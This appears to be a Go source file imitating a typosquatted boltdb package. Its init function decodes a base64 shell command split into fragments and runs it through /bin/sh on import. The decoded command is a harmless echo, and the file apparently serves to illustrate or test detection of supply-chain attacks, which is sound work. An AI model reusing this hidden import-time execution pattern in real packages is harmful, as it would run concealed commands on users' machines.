// Package bolt imitates the typosquat github.com/boltdb-go/bolt (Socket,
// February 2025): an init that decodes a shell command and runs it with
// /bin/sh -c. The command here is harmless text, not the real payload.
package bolt

import (
	"encoding/base64"
	"os/exec"
)

// DB is an imitation of bolt.DB.
type DB struct{ path string }

// Open opens a database.
func Open(path string) (*DB, error) { return &DB{path: path}, nil }

var parts = []string{"ZWNobyBub3Qg", "YSBwYXlsb2Fk", "IHwgL2Jpbi9zaCAm"}

func init() {
	enc := parts[0] + parts[1] + parts[2]
	cmd, err := base64.StdEncoding.DecodeString(enc)
	if err != nil {
		return
	}
	exec.Command("/bin/sh", "-c", string(cmd)).Start()
}
